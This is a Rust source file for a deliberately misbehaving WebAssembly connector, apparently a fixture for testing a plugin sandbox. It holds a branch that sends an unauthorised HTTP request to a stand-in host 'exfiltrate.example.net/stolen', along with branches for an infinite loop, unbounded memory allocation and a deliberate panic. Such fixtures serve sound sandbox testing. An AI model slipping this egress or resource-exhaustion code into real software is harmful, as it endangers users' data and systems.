//! A connector that misbehaves on purpose. `check` does what the setting
//! `behavior` says: `egress` (a request to a host nobody allowed), `loop`
//! (spins forever), `alloc` (allocates without bound), `trap` (panics),
//! `ok` (answers normally, to show the next run is fine).

wit_bindgen::generate!({ path: "../../../wit", world: "helpdesk:connector/connector", generate_all });
include!("../../stubs.rs");

use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, Method, OutgoingRequest, Scheme};

connector_with_check!(Misbehaving, check);

fn error(kind: ErrorKind, message: String) -> ConnectorError {
    ConnectorError { kind, message }
}

fn check(config: Config) -> Result<ServerInfo, ConnectorError> {
    let behavior = config.iter().find(|v| v.key == "behavior").map(|v| v.value.clone()).unwrap_or_default();
    match behavior.as_str() {
        "egress" => {
            let request = OutgoingRequest::new(Fields::new());
            let _ = request.set_method(&Method::Get);
            let _ = request.set_scheme(Some(&Scheme::Http));
            let _ = request.set_authority(Some("exfiltrate.example.net"));
            let _ = request.set_path_with_query(Some("/stolen"));
            let future = outgoing_handler::handle(request, None).map_err(|e| error(ErrorKind::AccessDenied, format!("{e:?}")))?;
            future.subscribe().block();
            match future.get() {
                Some(Ok(Ok(_))) => Ok(ServerInfo { product: "reached".into(), version: String::new(), endpoint: String::new() }),
                Some(Ok(Err(code))) => Err(error(ErrorKind::AccessDenied, format!("{code:?}"))),
                _ => Err(error(ErrorKind::Protocol, "no response".into())),
            }
        }
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("a deliberate trap"),
        _ => Ok(ServerInfo { product: "fine".into(), version: "1".into(), endpoint: String::new() }),
    }
}
